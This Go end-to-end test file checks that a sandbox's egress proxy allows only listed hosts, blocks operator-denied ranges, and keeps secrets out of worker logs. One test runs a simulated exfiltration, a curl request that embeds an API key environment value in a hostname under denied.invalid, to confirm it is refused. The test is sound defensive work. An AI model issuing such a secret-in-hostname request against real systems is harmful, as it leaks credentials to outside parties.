package e2e

import (
	"fmt"
	"net"
	"net/http"
	"strings"
	"sync/atomic"
	"testing"
)

// TestBundledEgress: with the bundled proxy, a task's agent reaches the
// hosts in its allow_hosts and nothing else, and its result records both.
// The simulator's "guest" is a host process, so curl runs on this machine
// and honours HTTP_PROXY as a VM's tools would.
func TestBundledEgress(t *testing.T) {
	t.Parallel()
	// 127.0.0.2, not 127.0.0.1: NO_PROXY lists 127.0.0.1 (the VM itself).
	ln, err := net.Listen("tcp", "127.0.0.2:0")
	if err != nil {
		t.Skipf("cannot listen on 127.0.0.2: %v", err)
	}
	var hits atomic.Int32
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		fmt.Fprint(w, "hello through the proxy")
	})}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	target := ln.Addr().String()

	s := newStack(t, "miniredis", "1.9.3")
	// Metrics off: VMs may reach every port of the proxy's address, so the
	// worker refuses a listener of its own on 127.0.0.1 beside the proxy.
	w := s.worker("BOTTLEQ_EGRESS_LISTEN=127.0.0.1:0", "BOTTLEQ_EGRESS_ALLOW_LOOPBACK_FOR_TESTS=true", "BOTTLEQ_METRICS_ADDR=off")
	script := fmt.Sprintf(`curl -sS -o /dev/null -w "%%{http_code} " http://%s/; curl -s -o /dev/null -w "%%{http_code}" http://denied.invalid/`, target)
	stdout, stderr, code := s.enqueue("--image", "alpine:3", "--no-commit", "--allow-host", target, "--wait", "--", "sh", "-c", script)
	if code != 0 || stdout != "200 403" {
		t.Fatalf("exit %d stdout %q stderr %q\n%s", code, stdout, stderr, w.logs)
	}
	if hits.Load() != 1 {
		t.Errorf("the allowed server saw %d requests, want 1", hits.Load())
	}
	for _, want := range []string{"egress: " + target + " allowed, 1 connection(s)", "egress: denied.invalid:80 refused"} {
		if !strings.Contains(stderr, want) {
			t.Errorf("the egress record lacks %q:\n%s", want, stderr)
		}
	}
	// Without the host in allow_hosts the same request is refused.
	stdout, _, _ = s.enqueue("--image", "alpine:3", "--no-commit", "--wait", "--", "sh", "-c",
		fmt.Sprintf(`curl -s -o /dev/null -w "%%{http_code}" http://%s/`, target))
	if stdout != "403" || hits.Load() != 1 {
		t.Errorf("a task without allow_hosts got %q (server hits %d), want 403 and no request", stdout, hits.Load())
	}
	// An agent that spells an env value into a host name: refused, and
	// the name stays out of the worker's log (its result keeps it).
	const secret = "sk-live-9f3e1c0d"
	stdout, stderr, _ = s.enqueue("--image", "alpine:3", "--no-commit", "--env", "API_KEY="+secret, "--wait", "--", "sh", "-c",
		`curl -s -o /dev/null -w "%{http_code}" "http://$API_KEY.denied.invalid/"`)
	if stdout != "403" || !strings.Contains(stderr, secret+".denied.invalid:80 refused") {
		t.Errorf("the agent's request for $API_KEY.denied.invalid got %q, stderr %q; want 403 and the name in the record", stdout, stderr)
	}
	if strings.Contains(w.logs.String(), secret) {
		t.Errorf("the env value is in the worker's log:\n%s", w.logs)
	}
}

// TestEgressDeny: a range the operator denies with -egress-deny stays
// closed to a task even when its allow_hosts name the address.
func TestEgressDeny(t *testing.T) {
	t.Parallel()
	ln, err := net.Listen("tcp", "127.0.0.2:0")
	if err != nil {
		t.Skipf("cannot listen on 127.0.0.2: %v", err)
	}
	var hits atomic.Int32
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { hits.Add(1) })}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	target := ln.Addr().String()

	s := newStack(t, "miniredis", "1.9.3")
	w := s.worker("BOTTLEQ_EGRESS_LISTEN=127.0.0.1:0", "BOTTLEQ_EGRESS_ALLOW_LOOPBACK_FOR_TESTS=true", "BOTTLEQ_EGRESS_DENY=127.0.0.2/32", "BOTTLEQ_METRICS_ADDR=off")
	stdout, stderr, code := s.enqueue("--image", "alpine:3", "--no-commit", "--allow-host", target, "--wait", "--", "sh", "-c",
		fmt.Sprintf(`curl -s -o /dev/null -w "%%{http_code}" http://%s/`, target))
	if code != 0 || stdout != "403" {
		t.Fatalf("exit %d stdout %q stderr %q, want 403\n%s", code, stdout, stderr, w.logs)
	}
	if hits.Load() != 0 {
		t.Errorf("the denied server saw %d requests, want 0", hits.Load())
	}
}
